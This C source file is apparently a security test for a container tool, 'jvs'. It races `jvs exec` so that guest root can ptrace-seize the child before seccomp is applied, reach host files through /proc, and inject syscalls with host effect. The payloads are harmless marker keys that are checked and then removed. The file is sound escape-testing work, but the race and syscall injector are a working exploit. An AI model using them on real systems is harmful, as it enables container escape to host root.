/* attack-ptrace: guest root racing `jvs exec` for its not-yet-restricted child.
 *
 * `jvs exec GUEST -- CMD` runs the host's jvs-init, which joins the guest's namespaces and
 * forks a child inside the guest's PID namespace; the child drops capabilities, sets
 * no_new_privs, loads the seccomp filter and execs CMD. If that child is dumpable, then from
 * its capset (its permitted set is now guest root's, a subset of ours, and we share uid 0)
 * until its execve, guest root passes the kernel's ptrace access check on it: PTRACE_SEIZE
 * works, and so do /proc/N/exe (the host's jvs-init) and /proc/N/fd/ (the host files it was
 * handed). Seized before its seccomp filter, it runs whatever syscall we inject, with host
 * effect: there is no user namespace, guest root is host uid 0.
 *
 *   attack-ptrace race MARKER COUNT SECONDS  as guest root, in the background: attack every
 *       new process until COUNT new pids passed or SECONDS did; one line per event, then a
 *       `summary ...` line
 *   attack-ptrace find-key MARKER            on the host: print "none", or "found ID" and
 *       remove the key named MARKER from the caller's user keyring (exit 1)
 *   attack-ptrace inject PID MARKER          seize PID now and inject: to try the injector
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef __x86_64__
#error "the syscall injector is written for x86_64"
#endif

static struct {
  int seen;       /* new pids passed: looked at, or missed */
  int targets;    /* exec children looked at: parent outside the guest's PID namespace */
  int early;      /* of those, first seen before their seccomp filter: raced in time */
  int seized;     /* seized while still the host's image (before its execve) */
  int unfiltered; /* ... and before its seccomp filter */
  int after_exec; /* seized once it ran CMD: a guest process, allowed */
  int exe;        /* /proc/N/exe opened while it was the host's image */
  int fds;        /* /proc/N/fd/X opened then */
  int add_key;    /* injected add_key that returned a key */
  int io_uring;   /* injected io_uring_setup that returned an fd */
} st;
#define ADD(field, n) (st.field += (n))

static const char *marker;
static int files; /* the current target's exe and fds were opened already */

static const char *err(long e) {
  const char *name = strerrorname_np((int)e);
  return name ? name : "?";
}

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec + t.tv_nsec / 1e9;
}

/* A field of /proc/PID/status, which anyone may read: no ptrace check. */
static int status_field(pid_t pid, const char *name, char *out, size_t n) {
  char path[64], line[256];
  size_t len = strlen(name);
  int found = -1;
  snprintf(path, sizeof path, "/proc/%d/status", pid);
  FILE *f = fopen(path, "re");
  if (!f) return -1;
  while (found < 0 && fgets(line, sizeof line, f)) {
    if (strncmp(line, name, len) == 0 && line[len] == ':') {
      snprintf(out, n, "%s", line + len + 1 + strspn(line + len + 1, " \t"));
      out[strcspn(out, "\n")] = 0;
      found = 0;
    }
  }
  fclose(f);
  return found;
}

/* comm through an fd kept open on /proc/PID/comm: pread re-reads it, ESRCH once it is gone. */
static int read_comm(int fd, char *buf, size_t n) {
  ssize_t r = pread(fd, buf, n - 1, 0);
  if (r <= 0) return -1;
  buf[r] = 0;
  buf[strcspn(buf, "\n")] = 0;
  return 0;
}

/* Opens /proc/PID/exe: 1 if it is a file that is not the guest's file at the path the link
 * names (the host's jvs-init, outside our root), 0 if it is the guest's own (CMD, after the
 * execve), -1 if the kernel refused (the ptrace check) or it is gone. */
static int host_image(pid_t pid, char *link, size_t n) {
  char path[64];
  struct stat ours, named;
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return -1;
  ssize_t len = readlink(path, link, n - 1);
  link[len > 0 ? len : 0] = 0;
  int foreign = fstat(fd, &ours) == 0 &&
      (stat(link, &named) != 0 || ours.st_dev != named.st_dev || ours.st_ino != named.st_ino);
  close(fd);
  return foreign;
}

/* Reopens every fd of PID through /proc/PID/fd/: the host files the monitor handed down. */
static void open_fds(pid_t pid) {
  char dir[64], path[384], link[512];
  snprintf(dir, sizeof dir, "/proc/%d/fd", pid);
  DIR *d = opendir(dir);
  if (!d) {
    printf("pid %d fd/: %s\n", pid, err(errno));
    return;
  }
  for (struct dirent *e; (e = readdir(d));) {
    if (e->d_name[0] == '.') continue;
    snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
    ssize_t len = readlink(path, link, sizeof link - 1);
    link[len > 0 ? len : 0] = 0;
    /* O_NONBLOCK: a pipe end reopened for reading must not wait for a writer */
    int fd = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
    printf("pid %d fd %s -> %s: %s\n", pid, e->d_name, link, fd >= 0 ? "opened" : err(errno));
    if (fd >= 0) {
      ADD(fds, 1);
      close(fd);
    }
  }
  closedir(d);
}

/* The host-file leak, once per target: only counted while it still runs the host image. */
static void try_files(pid_t pid) {
  char link[512];
  if (files || host_image(pid, link, sizeof link) != 1) return;
  files = 1;
  ADD(exe, 1);
  printf("pid %d exe opened: %s (the host's image)\n", pid, link);
  open_fds(pid);
}

/* Runs one syscall in the stopped tracee: REGS with rip on our `syscall; int3`. orig_rax = -1
 * so the kernel does not treat the stop as an interrupted syscall to restart (which would
 * rewind rip and rax). Returns rax: the result, or -errno. */
static long inject(pid_t pid, const struct user_regs_struct *regs, long nr, unsigned long a1,
                   unsigned long a2, unsigned long a3, unsigned long a4, unsigned long a5) {
  struct user_regs_struct r = *regs;
  int status;
  r.rax = nr;
  r.orig_rax = -1;
  r.rdi = a1, r.rsi = a2, r.rdx = a3, r.r10 = a4, r.r8 = a5;
  if (ptrace(PTRACE_SETREGS, pid, 0, &r) < 0 || ptrace(PTRACE_CONT, pid, 0, 0) < 0)
    return -errno;
  for (;;) { /* wait for the int3; any other stop is passed over */
    if (waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status)) return -ECHILD;
    if (WSTOPSIG(status) == SIGTRAP && status >> 16 == 0) break;
    if (ptrace(PTRACE_CONT, pid, 0, 0) < 0) return -errno;
  }
  if (ptrace(PTRACE_GETREGS, pid, 0, &r) < 0) return -errno;
  return (long)r.rax;
}

/* Injects add_key("user", MARKER, "x", 1, KEY_SPEC_USER_KEYRING) and io_uring_setup(1, &p),
 * then puts the tracee's text and registers back as they were. */
static void inject_all(pid_t pid, int count) {
  struct user_regs_struct regs;
  unsigned char data[256] = {0}; /* "user" at 0, MARKER at 16, "x" at 80, params at 96 */
  char k[32], u[32];
  if (ptrace(PTRACE_GETREGS, pid, 0, &regs) < 0) {
    printf("pid %d getregs: %s\n", pid, err(errno));
    return;
  }
  /* Below the tracee's stack pointer and well below its 128-byte red zone. */
  unsigned long sp = (regs.rsp - 1024) & ~15UL;
  errno = 0;
  long text = ptrace(PTRACE_PEEKTEXT, pid, regs.rip, 0);
  if (errno) {
    printf("pid %d peektext: %s\n", pid, err(errno));
    return;
  }
  memcpy(data, "user", 5);
  memcpy(data + 16, marker, strnlen(marker, 63));
  memcpy(data + 80, "x", 2);
  for (size_t i = 0; i < sizeof data; i += 8) {
    long word;
    memcpy(&word, data + i, 8);
    if (ptrace(PTRACE_POKEDATA, pid, sp + i, word) < 0) {
      printf("pid %d pokedata: %s\n", pid, err(errno));
      return;
    }
  }
  /* `syscall` (0f 05) then `int3` (cc) at rip; the text is private, ptrace writes through */
  long code = (text & ~0xffffffL) | 0xcc050fL;
  if (ptrace(PTRACE_POKETEXT, pid, regs.rip, code) < 0) {
    printf("pid %d poketext: %s\n", pid, err(errno));
    return;
  }
  long key = inject(pid, &regs, SYS_add_key, sp, sp + 16, sp + 80, 1,
                    (unsigned long)(long)KEY_SPEC_USER_KEYRING);
  long ring = inject(pid, &regs, SYS_io_uring_setup, 1, sp + 96, 0, 0, 0);
  if (ring >= 0) inject(pid, &regs, SYS_close, ring, 0, 0, 0, 0);
  ptrace(PTRACE_POKETEXT, pid, regs.rip, text);
  ptrace(PTRACE_SETREGS, pid, 0, &regs);
  if (count) {
    ADD(add_key, key >= 0);
    ADD(io_uring, ring >= 0);
  }
  if (key >= 0) snprintf(k, sizeof k, "key:%ld", key);
  else snprintf(k, sizeof k, "%s", err(-key));
  if (ring >= 0) snprintf(u, sizeof u, "fd:%ld", ring);
  else snprintf(u, sizeof u, "%s", err(-ring));
  printf("pid %d injected add_key=%s io_uring=%s\n", pid, k, u);
}

/* PID is seized: stop it, see what it is, inject, detach. COUNT: it is an
 * exec child (not the `inject` mode's process). */
static void seized(pid_t pid, int count) {
  char link[512] = "?", seccomp[32] = "?";
  int status, sig = 0;
  if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0 || waitpid(pid, &status, __WALL) != pid) {
    printf("pid %d seized, but not stopped: %s\n", pid, err(errno));
    return;
  }
  if (!WIFSTOPPED(status)) {
    printf("pid %d seized, but it ended first\n", pid);
    return;
  }
  if (status >> 16 != PTRACE_EVENT_STOP) sig = WSTOPSIG(status); /* a real signal: pass it on */
  int host = host_image(pid, link, sizeof link);
  status_field(pid, "Seccomp", seccomp, sizeof seccomp);
  printf("pid %d seized: exe %s (%s), Seccomp %s\n", pid, link,
         host == 1 ? "the host's image" : "the guest's", seccomp);
  if (count && host == 1) {
    ADD(seized, 1);
    ADD(unfiltered, strcmp(seccomp, "0") == 0);
    try_files(pid); /* it cannot exec under us now */
  } else if (count) {
    ADD(after_exec, 1);
  }
  inject_all(pid, count);
  ptrace(PTRACE_DETACH, pid, 0, sig);
}

/* One new pid: if it is an exec child, spin on PTRACE_SEIZE until that works, it execs (its
 * comm changes) or it is gone; meanwhile try its /proc/N/exe and fd/. */
static void attack(pid_t pid, double end) {
  char path[64], comm0[32], comm[32], ppid[32], seccomp[32];
  const char *outcome = "timeout";
  unsigned long i;
  ADD(seen, 1);
  snprintf(path, sizeof path, "/proc/%d/comm", pid);
  int cfd = open(path, O_RDONLY | O_CLOEXEC);
  if (cfd < 0 || read_comm(cfd, comm0, sizeof comm0) < 0 ||
      status_field(pid, "PPid", ppid, sizeof ppid) < 0 ||
      status_field(pid, "Seccomp", seccomp, sizeof seccomp) < 0) {
    printf("pid %d gone before a look\n", pid);
    if (cfd >= 0) close(cfd);
    return;
  }
  /* PPid 0: its parent is outside our PID namespace, i.e. the host's jvs-init */
  if (strcmp(ppid, "0") != 0) {
    printf("pid %d comm %s ppid %s: not an exec child\n", pid, comm0, ppid);
    close(cfd);
    return;
  }
  ADD(targets, 1);
  ADD(early, strcmp(seccomp, "0") == 0);
  double give_up = now() + 10 < end ? now() + 10 : end;
  files = 0;
  for (i = 0;; i++) {
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
      outcome = "seized";
      break;
    }
    if (errno == ESRCH) {
      outcome = "gone";
      break;
    }
    if (i % 4 == 3) { /* the seize every time, the dearer checks now and then */
      if (read_comm(cfd, comm, sizeof comm) < 0) {
        outcome = "gone";
        break;
      }
      if (strcmp(comm, comm0) != 0) { /* it exec'd: the window is over */
        outcome = "exec'd";
        break;
      }
    }
    if (i % 16 == 15) {
      try_files(pid);
      if (now() > give_up) break;
    }
  }
  printf("pid %d comm %s Seccomp %s: %s after %lu tries\n", pid, comm0, seccomp, outcome, i + 1);
  if (strcmp(outcome, "seized") == 0) seized(pid, 1);
  close(cfd);
}

static pid_t highest_pid(void) {
  pid_t max = 0;
  DIR *d = opendir("/proc");
  for (struct dirent *e; d && (e = readdir(d));) {
    pid_t p = atoi(e->d_name);
    if (p > max) max = p;
  }
  if (d) closedir(d);
  return max;
}

static int exists(pid_t pid) {
  return kill(pid, 0) == 0 || errno == EPERM;
}

/* The last pid our PID namespace handed out (/proc/sys/kernel/ns_last_pid), or failing that
 * the highest of the few after NEXT that exist. */
static pid_t last_pid(int fd, pid_t next) {
  char buf[32];
  ssize_t n = fd >= 0 ? pread(fd, buf, sizeof buf - 1, 0) : -1;
  if (n > 0) {
    buf[n] = 0;
    return atoi(buf);
  }
  pid_t last = 0;
  for (pid_t p = next; p < next + 64; p++)
    if (exists(p)) last = p;
  return last;
}

static int race(int count, int seconds) {
  double end = now() + seconds;
  /* The guest's PID namespace hands out increasing pids: the next process is `next`. */
  pid_t next = highest_pid() + 1;
  int last_fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
  double missing = 0; /* since when `next` was handed out but not there */
  printf("ready pid %d next %d\n", getpid(), next);
  for (unsigned long spins = 1; st.seen < count && now() < end; spins++) {
    if (exists(next)) {
      attack(next, end);
      next++;
      missing = 0;
      continue;
    }
    /* Handed out, yet not there for a while: it came and went while we were off the CPU. */
    if (spins % 256 == 0 && last_pid(last_fd, next) >= next) {
      if (missing == 0) {
        missing = now();
      } else if (now() - missing > 0.01) {
        printf("pid %d missed\n", next);
        ADD(seen, 1);
        next++;
        missing = 0;
      }
    }
    sched_yield();
  }
  printf("summary seen=%d targets=%d early=%d seized=%d unfiltered=%d after_exec=%d "
         "exe_opened=%d fds_opened=%d add_key=%d io_uring=%d\n",
         st.seen, st.targets, st.early, st.seized, st.unfiltered, st.after_exec, st.exe, st.fds,
         st.add_key, st.io_uring);
  return 0;
}

static int find_key(void) {
  long id = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user", marker, 0);
  if (id < 0 && errno == ENOKEY) {
    puts("none");
    return 0;
  }
  if (id < 0) {
    printf("error %s\n", err(errno));
    return 2;
  }
  printf("found %ld\n", id);
  /* remove it, so a failing run leaves nothing in root's keyring */
  syscall(SYS_keyctl, KEYCTL_UNLINK, id, KEY_SPEC_USER_KEYRING);
  syscall(SYS_keyctl, KEYCTL_INVALIDATE, id);
  return 1;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0); /* a file the test reads while we run */
  if (argc == 5 && strcmp(argv[1], "race") == 0 && strlen(argv[2]) < 64) {
    marker = argv[2];
    return race(atoi(argv[3]), atoi(argv[4]));
  }
  if (argc == 3 && strcmp(argv[1], "find-key") == 0) {
    marker = argv[2];
    return find_key();
  }
  if (argc == 4 && strcmp(argv[1], "inject") == 0 && strlen(argv[3]) < 64) {
    pid_t pid = atoi(argv[2]);
    marker = argv[3];
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) {
      printf("seize %d: %s\n", pid, err(errno));
      return 1;
    }
    seized(pid, 0);
    return 0;
  }
  fprintf(stderr,
          "usage: attack-ptrace race MARKER COUNT SECONDS | find-key MARKER | inject PID MARKER\n");
  return 2;
}
